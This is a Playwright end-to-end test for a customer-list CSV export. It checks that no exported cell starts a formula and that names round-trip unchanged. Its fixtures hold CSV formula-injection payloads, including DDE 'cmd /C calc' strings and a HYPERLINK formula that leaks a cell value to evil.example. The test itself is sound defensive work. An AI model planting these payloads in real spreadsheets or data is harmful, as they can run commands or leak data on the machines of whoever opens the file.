/** S17: the customers as a table, saved by the button of the desk: no formula, and the names come back as they were. */
import { readFileSync } from 'node:fs';
import Papa from 'papaparse';
import { expect, test } from '@playwright/test';
import { unguarded } from '../../lib/privacy/csv/cells';
import type { CustomerRow } from '../../lib/model/customer';
import { openTown } from '../e2e/lib/town';
import { openOwn, putRows, rowsOf } from '../tools/lib/own';
import { count, say } from './lib/say';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', "'", "'=", '"', '＝', ';', ','];
const CALLS = ['cmd|’ /C calc’!A0', 'HYPERLINK("https://evil.example?"&A1)', 'SUM(1,2)', 'a "quoted", word\r\nnext line', 'DDE("cmd";"/C calc")'];

test('the saved table holds no formula cell and every name comes back as it was', async () => {
  const { context, own } = await openTown();
  try {
    const nasty = Array.from({ length: count(650, 20_000) }, (_, i): CustomerRow => {
      const name = `${STARTS[i % STARTS.length] ?? ''}${CALLS[i % CALLS.length] ?? ''} ${i}`;
      return { id: `nasty-${i}`, name, tags: [`=tag${i}`], dontContact: i % 2 === 0, since: 1_700_000_000_000, lastAt: 1_700_000_000_000 + i };
    });
    await putRows(own, { customers: nasty });
    const all = await rowsOf<CustomerRow>(own, 'customers');
    const desk = await openOwn(context, 'desk.html#customers');
    const saved = desk.waitForEvent('download');
    await desk.getByRole('button', { name: 'Save as CSV' }).click();
    const text = readFileSync(await (await saved).path(), 'utf8');
    await expect(desk.getByText(new RegExp(`^Saved ${all.length.toLocaleString('en')} customers as earshot-customers-`))).toBeVisible();
    if (process.env.EARSHOT_PICTURES) await desk.screenshot({ path: `${process.env.EARSHOT_PICTURES}/customers-csv.png` });

    expect(text.startsWith('\uFEFF"id","name","email","identifier"')).toBe(true);
    const [head = [], ...rows] = Papa.parse<string[]>(text.slice(1).trimEnd(), { newline: '\r\n', delimiter: ',' }).data;
    const formulas = rows.flat().filter((cell) => /^[=+\-@\t\r\n＝]/.test(cell)).length;
    const names = new Map(rows.map((row) => [row[0], unguarded(row[head.indexOf('name')] ?? '')]));
    const differ = all.filter((one) => one.name && names.get(one.id) !== one.name).length;
    const nameless = rows.filter((row) => !/^(x|facebook|earshot):./.test(row[head.indexOf('identifier')] ?? '')).length;
    say(
      'S17',
      `${rows.length} customers, formula cells ${formulas}, differing ${differ}, without identifier ${nameless}`,
      !(formulas + differ + nameless),
    );
    expect([rows.length, formulas, differ, nameless]).toEqual([all.length, 0, 0, 0]);
  } finally {
    await context.close();
  }
});
